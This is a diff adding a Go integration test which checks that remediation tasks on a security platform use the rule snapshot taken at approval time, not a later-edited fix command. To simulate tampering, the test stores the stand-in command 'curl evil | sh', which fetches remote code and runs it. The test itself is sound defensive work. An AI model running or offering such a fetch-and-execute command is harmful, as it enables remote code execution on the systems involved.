@@ -0,0 +1,59 @@
+//go:build integration
+// +build integration
+
+package service
+
+import (
+	"testing"
+
+	"go.uber.org/zap"
+
+	"github.com/imkerbos/mxsec-platform/internal/server/model"
+	"github.com/imkerbos/mxsec-platform/internal/server/testdb"
+)
+
+// TestLoadFixPoliciesSnapshot 测试修复任务下发使用创建时的规则快照，创建后修改规则的修复命令不影响任务
+func TestLoadFixPoliciesSnapshot(t *testing.T) {
+	db := testdb.Open(t, &model.Policy{}, &model.Rule{})
+	if err := db.Create(&model.Policy{ID: "LINUX_SSH", Name: "SSH", Enabled: true}).Error; err != nil {
+		t.Fatal(err)
+	}
+	rule := model.Rule{RuleID: "SSH_001", PolicyID: "LINUX_SSH", Title: "禁止 root 登录", Enabled: true,
+		FixConfig: model.FixConfig{Command: "sed -i 's/^PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config"}}
+	if err := db.Create(&rule).Error; err != nil {
+		t.Fatal(err)
+	}
+	snapshotTask := &model.FixTask{TaskID: "fix-1", RuleIDs: model.StringArray{rule.RuleID},
+		RuleSnapshot: model.FixRuleSnapshots{model.NewFixRuleSnapshot(&rule)}}
+	legacyTask := &model.FixTask{TaskID: "fix-2", RuleIDs: model.StringArray{rule.RuleID}}
+
+	// 审批通过后修改规则的修复命令
+	if err := db.Model(&model.Rule{}).Where("rule_id = ?", rule.RuleID).
+		Update("fix_config", model.FixConfig{Command: "curl evil | sh"}).Error; err != nil {
+		t.Fatal(err)
+	}
+
+	s := NewTaskService(db, zap.NewNop())
+	tests := []struct {
+		name string
+		task *model.FixTask
+		want string
+	}{
+		{"snapshot", snapshotTask, rule.FixConfig.Command},
+		{"no snapshot uses current rule", legacyTask, "curl evil | sh"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			policies, count, err := s.loadFixPolicies(tt.task)
+			if err != nil {
+				t.Fatalf("loadFixPolicies failed: %v", err)
+			}
+			if count != 1 || len(policies) != 1 || len(policies[0].Rules) != 1 {
+				t.Fatalf("got %d policies, %d rules", len(policies), count)
+			}
+			if got := policies[0].Rules[0].FixConfig.Command; got != tt.want {
+				t.Errorf("fix command = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}